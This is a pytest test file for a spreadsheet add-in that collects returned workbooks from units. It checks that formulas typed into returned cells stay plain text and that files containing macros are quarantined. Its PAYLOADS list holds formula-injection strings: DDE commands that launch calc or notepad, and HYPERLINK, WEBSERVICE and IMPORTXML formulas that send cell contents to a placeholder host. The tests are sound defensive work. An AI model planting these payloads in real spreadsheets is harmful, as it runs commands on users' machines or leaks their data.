"""What a return holds stays text: no formula of a unit's ever comes alive in the workbook, on 冲突处理 or on a slip."""

from __future__ import annotations

import datetime as dt
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.comments import Comment
from support.additions import parts_of
from support.desk import change, rows
from support.office import Office
from support.packages import UNITS, cell, formulas
from support.returns import Text, fill, split

from addin.exchange.quarantine import quarantine_folder
from addin.schema import Conflicts, MonthlyProgress, Projects

PAYLOADS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1,"点此")',
    '=WEBSERVICE("http://example.invalid/")',
    "=IMPORTXML(CONCAT(\"http://example.invalid/\",A1),\"//a\")",
    "+cmd|'/C notepad'!A1",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "=[别的.xlsx]Sheet1!A1",
]  # fmt: skip
HOUSING = UNITS[0]


@pytest.fixture
def packages(office: Office, tmp_path: Path) -> dict[str, Path]:
    return split(office, tmp_path / "发件")


def collect(office: Office, *files: Path) -> dict[str, Any]:
    return office.run("collect", *files, "--apply").data


def live(office: Office) -> list[str]:
    """Formulas of the workbook and of everything beside it."""
    files = [office.path, *office.path.parent.glob("台账.发件/*/退件单.xlsx")]
    return [f"{path.name} {one}" for path in files for one in formulas(path)]


def test_twelve_payloads_typed_as_text_stay_text_wherever_they_go(
    office: Office, packages: dict[str, Path], tmp_path: Path
) -> None:
    before = live(office)
    for number, payload in enumerate(PAYLOADS):
        text = Text(payload)
        edits = [
            (MonthlyProgress, 0, MonthlyProgress.physical_progress, text),  # taken over: 应用, then 二次修改
            (Projects, 0, Projects.project_name, text),  # 越权修改: listed, and on the slip
            (MonthlyProgress, 1, MonthlyProgress.month_done, text),  # 待更正: listed, and on the slip
            (MonthlyProgress, 0, MonthlyProgress.problems, f"第{number}份"),
        ]
        back = fill(packages[HOUSING], tmp_path / f"{number:02d}_=1+1.xlsx", edits)
        _with_new_row(back, payload)
        collect(office, back)
        row = office.row(MonthlyProgress, code="A-01", month=dt.datetime(2022, 9, 1))
        assert row["physical_progress"] == payload.strip("\t\r")
        assert any(payload.strip() in str(one["returned_value"]) for one in office.rows(Conflicts))
    assert live(office) == before
    for place, one in enumerate(rows(office.path, Conflicts)):
        if one["type"] in ("越权修改", "新增待确认"):
            change(office.path, Conflicts, place + 4, "choice", "采用返回值")
    assert office.run("resolve").data["counts"]["采用返回值"] > 0
    assert live(office) == before


def _with_new_row(path: Path, payload: str) -> None:
    """A row of the unit's own, a comment, a tab: all with the payload."""
    book = openpyxl.load_workbook(path)
    sheet = book["项目清单"]
    row = sheet.max_row + 1
    for column in (Projects.code, Projects.project_name, Projects.remarks):
        place = cell(book, Projects, column)
        new = sheet.cell(row, place.column)
        new.value, new.data_type = payload, "s"
    sheet.cell(5, 3).comment = Comment(payload, payload)
    extra = book.create_sheet(payload.translate(dict.fromkeys(map(ord, "[]*:?/\\'\t\r")))[:30])
    extra["A1"].value, extra["A1"].data_type = payload, "s"
    book.save(path)


@pytest.mark.parametrize("formula", ["=B5*2", '=IF(1,"封顶","")', "=[别的.xlsx]Sheet1!A1", "=NOW()"])
def test_a_formula_is_neither_computed_nor_copied(
    office: Office, packages: dict[str, Path], tmp_path: Path, formula: str
) -> None:
    before = live(office)
    back = fill(
        packages[HOUSING],
        tmp_path / "回.xlsx",
        [
            (MonthlyProgress, 0, MonthlyProgress.month_done, formula),
            (MonthlyProgress, 1, MonthlyProgress.physical_progress, formula),
        ],
    )
    data = collect(office, back)
    found = {kind: count for kind, count in data["packages"][0]["counts"].items() if count and kind != "未动"}
    assert found == {"待更正": 2}
    assert live(office) == before
    assert all("这一格是公式" in str(row["returned_value"]) for row in office.rows(Conflicts))


def test_the_last_result_of_a_formula_is_shown(
    office: Office, packages: dict[str, Path], tmp_path: Path
) -> None:
    back = fill(
        packages[HOUSING], tmp_path / "回.xlsx", [(MonthlyProgress, 0, MonthlyProgress.month_done, "=60*2")]
    )
    parts = parts_of(back)
    for name, content in parts.items():
        parts[name] = content.replace(b"<f>60*2</f><v/>", b"<f>60*2</f><v>120</v>").replace(
            b"<f>60*2</f><v></v>", b"<f>60*2</f><v>120</v>"
        )
    _write(back, parts)
    data = collect(office, back)
    assert data["packages"][0]["counts"]["待更正"] == 1
    assert str(office.rows(Conflicts)[0]["returned_value"]).startswith("120\n")


def _write(path: Path, parts: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)


def test_a_file_with_macros_is_set_aside_and_nothing_of_it_is_read(
    office: Office, packages: dict[str, Path], tmp_path: Path
) -> None:
    back = fill(packages[HOUSING], tmp_path / "带宏.xlsx", [])
    _write(back, parts_of(back) | {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    data = office.run("collect", back, "--apply", code=4).data
    assert data["packages"][0]["state"] == "已拒收"
    assert "宏" in data["packages"][0]["reason"]
    assert len(list(quarantine_folder(office.path).iterdir())) == 2
